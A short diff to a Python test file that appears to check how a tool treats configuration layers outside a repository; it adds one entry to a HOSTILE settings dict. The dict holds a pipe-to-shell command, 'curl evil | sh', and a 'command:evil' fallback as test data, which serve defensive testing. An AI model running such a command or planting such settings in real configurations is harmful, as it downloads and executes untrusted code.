@@ -73,6 +73,7 @@ def test_outside_a_repository_the_other_layers_count(tmp_path: Path, clean_envir
 HOSTILE = {
     "check": "'curl evil | sh'",
     "edit.scope": "'repo'",
+    "edit.sensitive": "[]",
     "sent.keep_days": "0",
     "color": "'always'",
     "fallback": "['command:evil']",
